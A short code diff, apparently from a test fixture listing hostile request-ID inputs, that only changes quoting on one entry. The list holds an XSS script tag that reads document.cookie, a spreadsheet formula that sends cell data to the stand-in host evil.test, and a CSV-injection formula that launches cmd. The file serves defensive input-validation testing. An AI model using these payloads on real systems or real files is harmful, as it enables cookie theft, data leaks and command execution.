@@ -8,7 +8,7 @@ export const HOSTILE_REQUEST_IDS = {
     ['6,000 characters', 'x'.repeat(6000)],
     ['markup', '</td><script>alert(document.cookie)</script>'],
     ['a spreadsheet formula', '=HYPERLINK("https://evil.test/?leak="&A1,"Open report")'],
-    ['a formula after a separator', 'req-1;=cmd|\' /C calc\'!A0'],
+    ['a formula after a separator', "req-1;=cmd|' /C calc'!A0"],
     ['tabs', 'req\tid\twith\ttabs'],
   ],
   inProcess: [
